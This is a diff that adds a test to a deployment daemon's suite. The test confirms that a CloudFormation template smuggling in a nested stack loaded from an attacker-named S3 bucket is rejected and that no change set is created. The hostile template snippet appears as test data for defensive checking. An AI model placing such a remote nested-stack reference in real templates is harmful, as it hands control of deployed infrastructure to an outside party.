@@ -211,6 +211,21 @@ def test_a_template_gets_no_capability_that_the_configuration_does_not_give(make
     assert not control.calls(service="cloudformation", operation="ExecuteChangeSet")
 
 
+def test_a_template_cannot_bring_a_stack_that_nobody_looks_at(make_daemon, world, control):
+    """The inner stack's own template would name any image; the bucket it comes from is the attacker's."""
+    daemon = make_daemon(deployment={**PROJECT, "driver": "cloudformation", "stack": "scorer-prod", "endpoint": ENDPOINT}).start()
+    package = control.package("staging", "scorer", 7, approval="Approved")
+    template = TEMPLATE + """
+  Inner:
+    Type: AWS::CloudFormation::Stack
+    Properties: {TemplateURL: 'https://attackers.s3.amazonaws.com/template.yml'}
+"""
+    publish_zip(world, control, project(package["arn"], template))
+    record = settled(daemon)
+    assert record["state"] == "rejected" and "Inner" in record["reason"] and "CAPABILITY_AUTO_EXPAND" in record["reason"]
+    assert not control.calls(service="cloudformation", operation="CreateChangeSet")
+
+
 def linked(target: str) -> bytes:
     """A zip whose template is a symbolic link."""
     packed = io.BytesIO()
